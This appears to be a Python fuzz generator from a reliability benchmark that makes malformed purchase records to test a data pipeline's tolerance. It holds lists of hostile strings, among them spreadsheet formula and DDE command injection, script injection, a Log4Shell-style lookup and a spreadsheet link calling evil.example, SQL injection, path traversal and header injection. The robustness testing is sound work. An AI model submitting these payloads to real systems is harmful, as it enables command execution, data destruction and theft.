"""A seeded generator of hostile purchases: what a broken or malicious portal could list.

Most entries start from a real purchase of the simulator (so every field the pipeline reads
is present and plausible) and then have one kind of damage, so each field is attacked on its
own as well as in combination:

- a field (any leaf or sub-tree of the document, found by walking it) replaced by a value of
  another type, a hostile string or a hostile number, or deleted;
- every free-text field at once set to formula, markup, injection, control-character,
  right-to-left, zero-width, very long or non-Latin text;
- quantities and amounts made huge, negative, zero, fractional, NaN, infinite or textual;
- the structure broken: packages or line items of the wrong type, non-object entries among
  the lines, 300 lines, no lines;
- the identity broken: no id, an id that is not a string, an id shared with another entry,
  an id made of hostile text;
- the type made strange (``ORDER``, ``"order "``, ``1``, missing) or a non-live type;
- unknown fields added (a tolerant reader must keep them and carry on).

The rest are not objects at all (numbers, strings, null, arrays, booleans) or junk objects.
Same seed, same entries.
"""

from __future__ import annotations

import contextlib
import copy
import datetime as dt
from collections.abc import Iterator
from random import Random
from typing import Any

from benchmarks.reliability.proxy import HostileEntry

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","invoice")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>x</h1>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE sales_orders; --",
    '" OR 1=1 --',
    "%s%s%n",
    "../../etc/passwd",
]
UNICODE = [
    "",
    " ",
    "\t",
    "\x00",
    "\x1b[31mred",
    "\r\nX-Injected: 1",
    "\u202egnp.exe",
    "\u200b",
    "\ufeffBOM",
    "🧨💥",
    "Z̴̡͚a̵l̶g̷o",
    "日本語の注文",
    "مرحبا",
    "١٢٣",
    "\ud7ff\ue000",
]
LOOKS_LIKE_NUMBERS = [
    "NaN",
    "Infinity",
    "-Infinity",
    "1e309",
    "-0",
    "0x1F",
    "12,50",
    "£12.50",
    " 12.50 ",
    "1_000",
    "null",
    "true",
]
NUMBERS: list[Any] = [
    0,
    -1,
    -0.0,
    0.5,
    2.5,
    -3,
    1e308,
    -1e308,
    2**63,
    2**64 + 1,
    10**30,
    -(10**30),
    1e-320,
    0.1 + 0.2,
]
# NaN and the infinities are not JSON (RFC 8259): a portal cannot send them as numbers, only
# as text (LOOKS_LIKE_NUMBERS). Served raw, they made every page that held one unreadable as
# a whole (the client's JSON parser refuses them when requests uses simplejson), which tests
# the transport, not what the pipeline does with a hostile purchase; a body that is not JSON
# is the fault scenario's "malformed bodies".


def _nested(depth: int) -> Any:
    value: Any = "bottom"
    for level in range(depth):
        value = [value] if level % 2 else {"deeper": value}
    return value


SHAPES: list[Any] = [
    None,
    True,
    False,
    [],
    {},
    [1, "a", None],
    {"number": "1"},
    {"unexpected": {"deep": [1, 2]}},
    _nested(60),
    {f"key{i}": i for i in range(500)},
]
TEXTS = FORMULAS + MARKUP + UNICODE + LOOKS_LIKE_NUMBERS
TYPES: list[Any] = ["quote", "cart", "ORDER", "order ", "", None, 1, "awaiting_approval"]
NON_OBJECTS: list[Any] = [1, -1, 0, "order", "", None, True, False, 3.14, [], [{}], ["x"]]


def hostile_value(rng: Random) -> Any:
    pool = rng.choice([TEXTS, NUMBERS, SHAPES, ["x" * 300, "y" * 100_000]])
    return copy.deepcopy(rng.choice(pool))


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, dict):
        for key, child in value.items():
            yield (*prefix, key)
            yield from _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield (*prefix, index)
            yield from _paths(child, (*prefix, index))


def _set(document: Any, path: tuple[Any, ...], value: Any, *, delete: bool = False) -> None:
    parent = document
    for step in path[:-1]:
        parent = parent[step]
    if delete and isinstance(parent, dict):
        del parent[path[-1]]
    else:
        parent[path[-1]] = value


def _lines(document: dict[str, Any]) -> list[dict[str, Any]]:
    return [
        line
        for package in document.get("packages") or []
        if isinstance(package, dict)
        for line in package.get("line_items") or []
        if isinstance(line, dict)
    ]


def _damage(document: dict[str, Any], rng: Random) -> str:
    """Damage ``document`` in place; returns the kind of damage."""
    kind = rng.choices(
        ["field", "delete", "texts", "numbers", "structure", "identity", "type", "unknown"],
        weights=[40, 8, 10, 12, 10, 6, 6, 8],
    )[0]
    if kind in ("field", "delete"):
        paths = [p for p in _paths(document) if p[:2] != ("purchase_identifiers", "sparklayer")]
        for path in rng.sample(paths, min(len(paths), rng.randint(1, 3))):
            # An earlier change may have removed the path's parent.
            with contextlib.suppress(KeyError, IndexError, TypeError):
                _set(document, path, hostile_value(rng), delete=kind == "delete")
    elif kind == "texts":
        document["customer_reference"] = rng.choice(TEXTS)
        document["billing_address"] = {"company": rng.choice(TEXTS), "line1": rng.choice(TEXTS)}
        for line in _lines(document):
            line["name_parent"] = rng.choice(TEXTS)
    elif kind == "numbers":
        for line in _lines(document):
            line["quantity"] = rng.choice([*NUMBERS, *LOOKS_LIKE_NUMBERS])
            total = line.get("line_total")
            if isinstance(total, dict) and rng.random() < 0.5:
                total["total_net"] = {"number": rng.choice(NUMBERS + LOOKS_LIKE_NUMBERS)}
        if rng.random() < 0.5:
            document["calculated_total"] = {"number": rng.choice(NUMBERS + LOOKS_LIKE_NUMBERS)}
    elif kind == "structure":
        choice = rng.randrange(5)
        packages = document.get("packages") or [{}]
        if choice == 0:
            document["packages"] = hostile_value(rng)
        elif choice == 1 and isinstance(packages[0], dict):
            packages[0]["line_items"] = rng.choice(NON_OBJECTS + SHAPES)
        elif choice == 2 and isinstance(packages[0], dict):
            packages[0].setdefault("line_items", []).insert(0, rng.choice(NON_OBJECTS))
        elif choice == 3 and _lines(document):
            first = _lines(document)[0]
            packages[0]["line_items"] = [copy.deepcopy(first) for _ in range(300)]
        else:
            document["packages"] = []
    elif kind == "identity":
        identifiers = document["purchase_identifiers"]
        choice = rng.randrange(3)
        if choice == 0:
            del identifiers["sparklayer"]
        elif choice == 1:
            identifiers["sparklayer"] = rng.choice([123, 4.5, True, [], {"id": "x"}, None])
        else:
            identifiers["sparklayer"] = f"hostile-text-{rng.randrange(10**6)}-{rng.choice(TEXTS)}"
    elif kind == "type":
        document["type"] = rng.choice(TYPES)
    else:
        for _ in range(rng.randint(1, 5)):
            document[rng.choice(TEXTS) or "blank"] = hostile_value(rng)
    return kind


def _junk(rng: Random) -> dict[str, Any]:
    return {rng.choice(TEXTS) or "k": hostile_value(rng) for _ in range(rng.randint(0, 8))}


def generate(
    templates: list[dict[str, Any]], count: int, rng: Random, *, start: dt.datetime
) -> list[HostileEntry]:
    """``count`` hostile entries, listed as changed one after another from ``start``."""
    entries: list[HostileEntry] = []
    for number in range(count):
        moment = start + dt.timedelta(milliseconds=2 * number)
        stamp = moment.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        sort_id = f"hostile-{number:06d}"
        roll = rng.random()
        if roll < 0.06:
            document: Any = copy.deepcopy(rng.choice(NON_OBJECTS + SHAPES[:8]))
        elif roll < 0.09:
            document = _junk(rng)
        else:
            document = copy.deepcopy(rng.choice(templates))
            document["purchase_identifiers"] = {
                "sparklayer": sort_id,
                "platform": "",
                "internal": "",
                "visible": f"HX-{number:06d}",
            }
            dates = document.setdefault("dates", {})
            if isinstance(dates, dict):
                dates["updated_at"] = stamp
            document["revision_date"] = stamp
            _damage(document, rng)
            if rng.random() < 0.02 and entries:  # an id another entry already has
                other = rng.choice(entries).document
                if isinstance(other, dict) and isinstance(other.get("purchase_identifiers"), dict):
                    shared = other["purchase_identifiers"].get("sparklayer")
                    if isinstance(document.get("purchase_identifiers"), dict):
                        document["purchase_identifiers"]["sparklayer"] = shared
        entries.append(HostileEntry(stamp, sort_id, document))
    return entries
